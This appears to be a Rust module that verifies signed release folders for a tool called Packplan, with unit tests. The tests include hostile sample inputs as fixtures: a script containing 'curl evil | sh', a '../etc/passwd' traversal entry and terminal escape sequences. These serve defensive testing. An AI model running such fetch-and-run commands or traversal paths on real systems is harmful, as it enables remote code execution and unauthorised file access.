//! Release folders: what a secure site checks before it installs Packplan.
//!
//! A release is one flat folder: the packages, their SBOMs, the source tarball, `SHA256SUMS`
//! (every other file's SHA-256, in `sha256sum`'s format) and `SHA256SUMS.minisig` (the minisign
//! signature of that list by the Packplan release key). [`verify`] accepts the folder only when
//! the signature is good and made with the expected key, every listed file is there with its
//! SHA-256, and nothing else is in the folder. `minisign -Vm SHA256SUMS` and `sha256sum -c
//! SHA256SUMS` check the same with the standard tools (docs/install.md).

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use serde::Serialize;

use crate::bundle::manifest::sha256_hex_reader;
use crate::bundle::signing::{signature_key_id, IssuerKey};
use crate::printable::{has_controls, printable};
use crate::{Error, ErrorKind, Result};

/// The checksum list of a release folder.
pub const SUMS_NAME: &str = "SHA256SUMS";
/// The minisign signature of [`SUMS_NAME`].
pub const SIGNATURE_NAME: &str = "SHA256SUMS.minisig";
/// The public half of the Packplan release key (`assets/release/packplan-release.pub`). The
/// secret half is never in the repository.
pub const RELEASE_PUBLIC_KEY: &str = include_str!("../../../assets/release/packplan-release.pub");

/// The key a release must be signed with, and how to name it in messages.
#[derive(Debug, Clone)]
pub struct ReleaseKey {
    key: IssuerKey,
    /// "the Packplan release key" or "the key in FILE".
    origin: String,
    built_in: bool,
}

impl ReleaseKey {
    /// The Packplan release key built into this binary.
    pub fn built_in() -> Result<ReleaseKey> {
        let key = IssuerKey::parse(RELEASE_PUBLIC_KEY)
            .map_err(|_| Error::internal("the built-in release public key is not a minisign public key"))?;
        Ok(ReleaseKey { key, origin: "the Packplan release key".into(), built_in: true })
    }

    /// A minisign public key file (`.pub`), for a release signed with another key (a test build).
    pub fn from_file(path: &Path) -> Result<ReleaseKey> {
        let text = fs::read_to_string(path).map_err(|e| Error::io("read the public key", path, e))?;
        let key = IssuerKey::parse(&text).map_err(|_| {
            Error::invalid(format!(
                "{} is not a minisign public key; give the .pub file whose second line starts with RW",
                path.display()
            ))
        })?;
        Ok(ReleaseKey { key, origin: format!("the key in {}", path.display()), built_in: false })
    }

    /// The given key file, or else the built-in release key.
    pub fn from_file_or_built_in(path: Option<&Path>) -> Result<ReleaseKey> {
        path.map_or_else(ReleaseKey::built_in, ReleaseKey::from_file)
    }

    pub fn key_id(&self) -> String {
        self.key.key_id().to_string()
    }
}

/// One line of `SHA256SUMS`: a file of the release and its SHA-256.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Listed {
    pub name: String,
    /// Lowercase hex.
    pub sha256: String,
}

/// Reads `SHA256SUMS` as `sha256sum` writes it: `<64 hex digits>  <file name>` per line (a `*`
/// before the name, binary mode, is accepted). Names are plain file names of the folder.
pub fn parse_sums(text: &str) -> Result<Vec<Listed>> {
    let mut listed = Vec::new();
    let mut names = BTreeSet::new();
    for (index, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let bad = |why: &str| {
            Error::new(
                ErrorKind::Damaged,
                format!(
                    "line {} of {SUMS_NAME} {why}; the list was signed like this, so the release was made wrongly: \
                     ask whoever made it for a corrected release",
                    index + 1
                ),
            )
        };
        let (hash, rest) = line.split_once(' ').ok_or_else(|| bad("is not `<SHA-256>  <file name>`"))?;
        let name = rest.strip_prefix(' ').or_else(|| rest.strip_prefix('*')).unwrap_or(rest);
        if hash.len() != 64 || !hash.chars().all(|c| c.is_ascii_hexdigit()) {
            return Err(bad("does not start with a SHA-256 of 64 hex digits"));
        }
        if name.is_empty()
            || name == "."
            || name == ".."
            || name.contains(['/', '\\'])
            || name == SUMS_NAME
            || name == SIGNATURE_NAME
            || has_controls(name)
        {
            return Err(bad(&format!("names {name:?}, which is not a file of the release folder")));
        }
        if !names.insert(name.to_owned()) {
            return Err(bad(&format!("lists {name} a second time")));
        }
        listed.push(Listed { name: name.to_owned(), sha256: hash.to_ascii_lowercase() });
    }
    if listed.is_empty() {
        return Err(Error::new(
            ErrorKind::Damaged,
            format!("{SUMS_NAME} lists no file; ask whoever made the release for a corrected one"),
        ));
    }
    Ok(listed)
}

/// A file of a release that matched its signed SHA-256.
#[derive(Debug, Clone, Serialize)]
pub struct VerifiedFile {
    pub name: String,
    pub sha256: String,
    pub bytes: u64,
}

/// A release folder that passed every check.
#[derive(Debug, Clone, Serialize)]
pub struct VerifiedRelease {
    pub dir: PathBuf,
    /// The minisign key id that signed `SHA256SUMS` (16 hex digits).
    pub key_id: String,
    /// True when that is the Packplan release key built into this binary.
    pub release_key: bool,
    pub files: Vec<VerifiedFile>,
}

/// What is wrong with one file of a release folder.
enum Problem {
    Missing(String),
    Changed { name: String, actual: String, listed: String },
    Unlisted(String),
    Unreadable(String, std::io::Error),
}

impl Problem {
    fn line(&self) -> String {
        match self {
            Problem::Missing(name) => format!("{name}: listed in {SUMS_NAME} but missing from the folder"),
            Problem::Changed { name, actual, listed } => {
                format!("{name}: changed since it was signed (its SHA-256 is {actual}, {SUMS_NAME} says {listed})")
            }
            // The folder's own names are not vouched for: no control character reaches the terminal.
            Problem::Unlisted(name) => {
                format!("{}: not listed in {SUMS_NAME}, so nothing vouches for it", printable(name))
            }
            Problem::Unreadable(name, e) => format!("{name}: could not be read ({e})"),
        }
    }
}

/// Checks a release folder: the signature of `SHA256SUMS` by `key`, then every file against it,
/// then that the folder holds nothing else. Every problem found is named in the error.
pub fn verify(dir: &Path, key: &ReleaseKey) -> Result<VerifiedRelease> {
    if !dir.is_dir() {
        return Err(Error::new(
            ErrorKind::NotFound,
            format!("{} is not a folder; give the release folder that holds {SUMS_NAME}", dir.display()),
        ));
    }
    let sums_path = dir.join(SUMS_NAME);
    let sums = fs::read(&sums_path).map_err(|e| match e.kind() {
        std::io::ErrorKind::NotFound => Error::new(
            ErrorKind::NotFound,
            format!(
                "{} has no {SUMS_NAME}, so it is not a complete Packplan release folder; copy the whole folder \
                 (packages, {SUMS_NAME}, {SIGNATURE_NAME}) from the release media",
                dir.display()
            ),
        ),
        _ => Error::io("read", &sums_path, e),
    })?;
    let signature_path = dir.join(SIGNATURE_NAME);
    let signature = fs::read_to_string(&signature_path).map_err(|e| match e.kind() {
        std::io::ErrorKind::NotFound => Error::new(
            ErrorKind::NotFound,
            format!(
                "{SUMS_NAME} in {} is not signed ({SIGNATURE_NAME} is missing), so nothing shows who made \
                 these files; do not install from this folder: copy {SIGNATURE_NAME} from the release media too",
                dir.display()
            ),
        ),
        std::io::ErrorKind::InvalidData => forged(dir, "the signature file is not text"),
        _ => Error::io("read", &signature_path, e),
    })?;
    let signer = check_signature(dir, &sums, &signature, key)?;
    let text = std::str::from_utf8(&sums).map_err(|_| {
        Error::new(
            ErrorKind::Damaged,
            format!("{SUMS_NAME} is not text; ask whoever made the release for a corrected one"),
        )
    })?;
    let listed = parse_sums(text)?;

    let mut problems = Vec::new();
    let mut files = Vec::new();
    for entry in &listed {
        let path = dir.join(&entry.name);
        match hash_file(&path) {
            Ok((actual, bytes)) if actual == entry.sha256 => {
                files.push(VerifiedFile { name: entry.name.clone(), sha256: actual, bytes })
            }
            Ok((actual, _)) => {
                problems.push(Problem::Changed { name: entry.name.clone(), actual, listed: entry.sha256.clone() })
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => problems.push(Problem::Missing(entry.name.clone())),
            Err(e) => problems.push(Problem::Unreadable(entry.name.clone(), e)),
        }
    }
    let known: BTreeSet<&str> = listed.iter().map(|l| l.name.as_str()).chain([SUMS_NAME, SIGNATURE_NAME]).collect();
    let mut present = Vec::new();
    for item in fs::read_dir(dir).map_err(|e| Error::io("list the release folder", dir, e))? {
        let item = item.map_err(|e| Error::io("list the release folder", dir, e))?;
        present.push(item.file_name().to_string_lossy().into_owned());
    }
    present.sort();
    problems.extend(present.into_iter().filter(|name| !known.contains(name.as_str())).map(Problem::Unlisted));

    if !problems.is_empty() {
        let lines: Vec<String> = problems.iter().map(|p| format!("  {}", p.line())).collect();
        return Err(Error::new(
            ErrorKind::Damaged,
            format!(
                "the release folder {} does not match its signed {SUMS_NAME}:\n{}\nDo not install from this folder; \
                 copy the release again from the original media (into an empty folder) and verify the copy",
                dir.display(),
                lines.join("\n")
            ),
        ));
    }
    Ok(VerifiedRelease { dir: dir.to_path_buf(), key_id: signer, release_key: key.built_in, files })
}

/// Checks the signature over the list; returns the signer's key id.
fn check_signature(dir: &Path, sums: &[u8], signature: &str, key: &ReleaseKey) -> Result<String> {
    let signer = signature_key_id(signature)
        .map_err(|_| forged(dir, &format!("{SIGNATURE_NAME} is not a minisign signature")))?;
    let expected = key.key.key_id();
    if signer != expected {
        let advice = if key.built_in {
            "if this is a test build signed with a key you trust, give that key's public half with --key FILE.pub"
        } else {
            "check that you gave the right public key"
        };
        return Err(Error::new(
            ErrorKind::WrongKey,
            format!(
                "{SUMS_NAME} in {} is signed with the key {signer}, not with {} ({expected}); do not install from \
                 this folder unless you trust the key {signer}: {advice}",
                dir.display(),
                key.origin
            ),
        ));
    }
    key.key
        .verify(sums, signature)
        .map_err(|_| forged(dir, &format!("{SUMS_NAME} or its signature was changed after signing")))?;
    Ok(signer.to_string())
}

fn forged(dir: &Path, why: &str) -> Error {
    Error::new(
        ErrorKind::Damaged,
        format!(
            "the signature of {SUMS_NAME} in {} is not valid: {why}; do not install from this folder: copy the release \
             again from the original media",
            dir.display()
        ),
    )
}

fn hash_file(path: &Path) -> std::io::Result<(String, u64)> {
    let file = fs::File::open(path)?;
    let bytes = file.metadata()?.len();
    Ok((sha256_hex_reader(file)?, bytes))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundle::manifest::sha256_hex;
    use crate::bundle::signing::SigningKey;

    /// A signed release folder of two files, and the key that checks it.
    fn release() -> (tempfile::TempDir, SigningKey, ReleaseKey) {
        let dir = tempfile::tempdir().unwrap();
        let mut sums = String::new();
        for (name, body) in [("packplan_1.0_amd64.deb", b"deb bytes".as_slice()), ("packplan.cdx.json", b"{}")] {
            fs::write(dir.path().join(name), body).unwrap();
            sums.push_str(&format!("{}  {name}\n", sha256_hex(body)));
        }
        let signer = SigningKey::generate().unwrap();
        sign(dir.path(), &signer, &sums);
        let pub_file = tempfile::NamedTempFile::new().unwrap();
        fs::write(pub_file.path(), signer.public_key_file().unwrap()).unwrap();
        let key = ReleaseKey::from_file(pub_file.path()).unwrap();
        (dir, signer, key)
    }

    fn sign(dir: &Path, signer: &SigningKey, sums: &str) {
        fs::write(dir.join(SUMS_NAME), sums).unwrap();
        fs::write(dir.join(SIGNATURE_NAME), signer.sign(sums.as_bytes(), "test release").unwrap()).unwrap();
    }

    fn refused(dir: &Path, key: &ReleaseKey) -> Error {
        verify(dir, key).expect_err("the folder should have been refused")
    }

    #[test]
    fn a_good_release_is_accepted_with_every_file_named() {
        let (dir, signer, key) = release();
        let ok = verify(dir.path(), &key).unwrap();
        assert_eq!(ok.key_id, signer.key_id().to_string());
        assert!(!ok.release_key);
        let names: Vec<&str> = ok.files.iter().map(|f| f.name.as_str()).collect();
        assert_eq!(names, ["packplan_1.0_amd64.deb", "packplan.cdx.json"]);
        assert_eq!(ok.files[0].bytes, 9);
    }

    #[test]
    fn a_changed_file_is_named_with_both_hashes() {
        let (dir, _, key) = release();
        fs::write(dir.path().join("packplan_1.0_amd64.deb"), b"deb bytez").unwrap();
        let e = refused(dir.path(), &key);
        assert_eq!(e.kind(), ErrorKind::Damaged);
        assert!(e.message().contains("packplan_1.0_amd64.deb: changed since it was signed"), "{e}");
        assert!(e.message().contains(&sha256_hex(b"deb bytes")), "{e}");
        assert!(e.message().contains("Do not install from this folder"), "{e}");
        assert!(!e.message().contains("packplan.cdx.json"), "only the changed file is named: {e}");
    }

    #[test]
    fn a_missing_file_and_an_extra_file_are_both_named() {
        let (dir, _, key) = release();
        fs::remove_file(dir.path().join("packplan.cdx.json")).unwrap();
        fs::write(dir.path().join("install-me.sh"), b"curl evil | sh").unwrap();
        fs::write(dir.path().join("clear\u{1b}[2Jscreen"), b"").unwrap();
        fs::create_dir(dir.path().join("extras")).unwrap();
        let e = refused(dir.path(), &key);
        assert!(e.message().contains("packplan.cdx.json: listed in SHA256SUMS but missing"), "{e}");
        assert!(e.message().contains("install-me.sh: not listed in SHA256SUMS"), "{e}");
        assert!(e.message().contains("extras: not listed"), "{e}");
        assert!(e.message().contains("clear[2Jscreen: not listed"), "no escape reaches the terminal: {e}");
    }

    #[test]
    fn a_forged_or_absent_signature_is_refused() {
        let (dir, _, key) = release();
        // The list edited to match a changed file: the signature no longer fits.
        fs::write(dir.path().join("packplan_1.0_amd64.deb"), b"evil").unwrap();
        let sums = fs::read_to_string(dir.path().join(SUMS_NAME)).unwrap();
        let forged_sums = sums.replace(&sha256_hex(b"deb bytes"), &sha256_hex(b"evil"));
        fs::write(dir.path().join(SUMS_NAME), &forged_sums).unwrap();
        let e = refused(dir.path(), &key);
        assert_eq!(e.kind(), ErrorKind::Damaged);
        assert!(e.message().contains("changed after signing"), "{e}");

        // Re-signed by someone else: named as another key, with advice.
        let other = SigningKey::generate().unwrap();
        sign(dir.path(), &other, &forged_sums);
        let e = refused(dir.path(), &key);
        assert_eq!(e.kind(), ErrorKind::WrongKey);
        assert!(e.message().contains(&format!("signed with the key {}", other.key_id())), "{e}");
        assert!(e.message().contains("check that you gave the right public key"), "{e}");

        // Garbage instead of a signature, then no signature at all.
        fs::write(dir.path().join(SIGNATURE_NAME), "not a signature").unwrap();
        assert!(refused(dir.path(), &key).message().contains("is not a minisign signature"));
        fs::remove_file(dir.path().join(SIGNATURE_NAME)).unwrap();
        let e = refused(dir.path(), &key);
        assert_eq!(e.kind(), ErrorKind::NotFound);
        assert!(e.message().contains("is not signed (SHA256SUMS.minisig is missing)"), "{e}");
    }

    #[test]
    fn the_built_in_key_refuses_a_test_signature_and_says_how_to_check_one() {
        let (dir, _, _) = release();
        let built_in = ReleaseKey::built_in().unwrap();
        let e = refused(dir.path(), &built_in);
        assert_eq!(e.kind(), ErrorKind::WrongKey);
        assert!(e.message().contains("not with the Packplan release key"), "{e}");
        assert!(e.message().contains("--key FILE.pub"), "{e}");
    }

    #[test]
    fn a_folder_without_a_list_is_not_a_release() {
        let dir = tempfile::tempdir().unwrap();
        let e = refused(dir.path(), &ReleaseKey::built_in().unwrap());
        assert_eq!(e.kind(), ErrorKind::NotFound);
        assert!(e.message().contains("has no SHA256SUMS"), "{e}");
        let e = refused(&dir.path().join("nowhere"), &ReleaseKey::built_in().unwrap());
        assert!(e.message().contains("is not a folder"), "{e}");
    }

    #[test]
    fn the_list_is_read_as_sha256sum_writes_it() {
        let h = sha256_hex(b"x");
        let listed = parse_sums(&format!("{h}  a.deb\n{} *b.rpm\n\n", h.to_uppercase())).unwrap();
        assert_eq!(
            listed,
            [Listed { name: "a.deb".into(), sha256: h.clone() }, Listed { name: "b.rpm".into(), sha256: h.clone() }]
        );
        for (text, why) in [
            (format!("{h}  ../etc/passwd\n"), "not a file of the release folder"),
            (format!("{h}  sub/a.deb\n"), "not a file of the release folder"),
            (format!("{h}  SHA256SUMS\n"), "not a file of the release folder"),
            (format!("{h}  a\u{1b}[2J.deb\n"), "not a file of the release folder"),
            (format!("{h}  a.deb\n{h}  a.deb\n"), "a second time"),
            ("abc  a.deb\n".to_owned(), "64 hex digits"),
            ("nothing-here\n".to_owned(), "is not `<SHA-256>  <file name>`"),
            (String::new(), "lists no file"),
        ] {
            let e = parse_sums(&text).unwrap_err();
            assert!(e.message().contains(why), "{text:?}: {e}");
        }
    }

    #[test]
    fn the_built_in_key_is_the_committed_public_key() {
        let key = ReleaseKey::built_in().unwrap();
        assert!(RELEASE_PUBLIC_KEY.contains(&format!("minisign public key {}", key.key_id())));
    }
}
